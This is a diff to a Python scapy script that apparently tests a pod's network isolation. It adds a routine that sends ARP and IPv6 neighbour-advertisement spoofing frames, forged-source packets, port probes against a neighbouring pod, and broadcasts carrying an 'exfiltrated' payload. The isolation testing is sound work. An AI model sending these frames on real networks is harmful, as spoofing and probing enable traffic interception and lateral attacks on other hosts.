@@ -12,15 +12,22 @@ import sys
 
 from scapy.all import (AH, ARP, ESP, GRE, IP, TCP, UDP, Dot1AD, Dot1Q, Ether, ICMP,
                        ICMPv6DestUnreach, ICMPv6EchoRequest, ICMPv6MLReport, ICMPv6ND_NA,
-                       ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6ND_Redirect, IPOption_LSRR,
+                       ICMPv6NDOptDstLLAddr, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6ND_Redirect, IPOption_LSRR,
                        IPOption_RR, IPOption_SSRR, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment,
                        IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, PadN, Raw, SCTP, fragment, raw)
 
-OWN4, OWN6 = "192.0.0.2", "fd7e:a7c3:1b5d::2"
-GW4, GW6 = "192.0.0.1", "fd7e:a7c3:1b5d::1"
-OK4, OK6 = "198.51.100.7", "2001:db8::7"
+
+
+def pair(name, *default):
+    return os.environ.get(name, "").split() or default
+
+
+OWN4, OWN6 = pair("OWN", "192.0.0.2", "fd7e:a7c3:1b5d::2")
+GW4, GW6 = pair("GW", "192.0.0.1", "fd7e:a7c3:1b5d::1")
+OK4, OK6 = pair("OK", "198.51.100.7", "2001:db8::7")
 NO4, NO6 = "203.0.113.99", "2001:db9::99"
-MAC, GW_MAC = "02:65:78:00:00:02", "02:65:78:00:00:01"
+MAC, GW_MAC = pair("MACS", "02:65:78:00:00:02", "02:65:78:00:00:01")
+NEAR4, NEAR6, NEAR_MAC = pair("NEAR", "", "", "")  # another pod on the bridge
 SECRET = b"exfiltrated"
 
 interface, rounds = sys.argv[1], int(sys.argv[2])
@@ -191,6 +198,43 @@ def quotes_of_others_flows():
     yield eth() / ip6(NO6) / ICMPv6EchoRequest(data=SECRET)
 
 
+def on_a_bridge():
+    """A neighbour spoken to, impersonated, and told of others."""
+    everybody, near = "ff:ff:ff:ff:ff:ff", NEAR_MAC
+    for port in (22, 53, 80, 443, 444):
+        yield eth(dst=near) / ip4(NEAR4) / tcp(port)
+        yield eth(dst=near) / ip6(NEAR6) / tcp(port)
+        yield eth(dst=near) / ip4(NEAR4) / UDP(sport=9, dport=port) / SECRET
+        yield eth(dst=near) / ip4(src=NEAR4) / tcp(port)
+        yield eth(src=near) / ip4(src=NEAR4) / tcp(port)
+        yield eth(dst=near) / ip4(src=GW4, dst=NEAR4) / tcp(port, flags="SA")
+        yield eth(dst=near) / ip6(src=GW6, dst=NEAR6) / tcp(port)
+    for mac in (MAC, NEAR_MAC, GW_MAC):
+        for claim in (NEAR4, GW4, "10.77.0.99", "0.0.0.0", "255.255.255.255"):
+            for op in (1, 2):
+                yield eth(dst=everybody) / ARP(op=op, hwsrc=mac, psrc=claim, pdst=claim)
+                yield eth(dst=near) / ARP(op=op, hwsrc=mac, psrc=claim, hwdst=near, pdst=NEAR4)
+                yield eth(src=mac, dst=near) / ARP(op=op, hwsrc=mac, psrc=claim, pdst=NEAR4)
+    yield eth(dst=everybody) / ARP(op=1, hwsrc=MAC, psrc=OWN4, hwdst="73:65:63:72:65:74",
+                                   pdst=NEAR4)
+    for src in (OWN6, NEAR6, GW6, "fe80::1", "::"):
+        for target in (NEAR6, GW6, "fd77::99", NO6, "fe80::1"):
+            for dst in ("ff02::1", NEAR6, NO6):
+                link = IPv6(src=src, dst=dst, hlim=255)
+                yield eth(dst=near) / link / ICMPv6ND_NA(tgt=target) / \
+                    ICMPv6NDOptDstLLAddr(lladdr=MAC)
+                yield eth() / link / ICMPv6ND_NS(tgt=target) / Raw(b"\x0e\x02" + SECRET + b"\0" * 3)
+    yield eth() / ip6(NO6, hlim=255) / ICMPv6ND_NS(tgt=NO6)
+    yield eth() / ip6(NO6, hlim=255) / ICMPv6ND_NA(tgt=OWN6)
+    for kind, dst in ((0x0027, "01:80:c2:00:00:00"), (0x88cc, "01:80:c2:00:00:0e"),
+                      (0x888e, "01:80:c2:00:00:03"), (0x9000, near)):
+        yield eth(dst=dst, type=kind) / Raw(SECRET * 4)
+    for dst in ("224.0.0.251", "239.255.255.250", "10.77.0.255", "255.255.255.255"):
+        yield eth(dst="01:00:5e:00:00:fb") / ip4(dst) / UDP(sport=5353, dport=5353) / SECRET
+        yield eth(dst=everybody) / ip4(dst) / UDP(sport=9, dport=123) / SECRET
+    yield eth(dst="33:33:00:00:00:fb") / ip6("ff02::fb") / UDP(sport=5353, dport=5353) / SECRET
+
+
 def cut_short():
     for frame in (eth() / ip4() / tcp() / SECRET, eth() / ip6() / tcp() / SECRET,
                   eth() / ip4() / UDP(sport=1, dport=123) / SECRET):
@@ -234,8 +278,9 @@ def main():
     for frame in canaries():
         send(frame)
     for attack in (other_destinations, other_ports_and_protocols, stray_segments, forged_senders,
-                   odd_headers, fragments, neighbours, quotes_of_others_flows, cut_short):
-        for frame in attack():
+                   odd_headers, fragments, neighbours, quotes_of_others_flows, cut_short,
+                   on_a_bridge):
+        for frame in attack() if NEAR4 or attack is not on_a_bridge else ():
             send(frame)
     sockets()
     for data in spoiled(rounds):
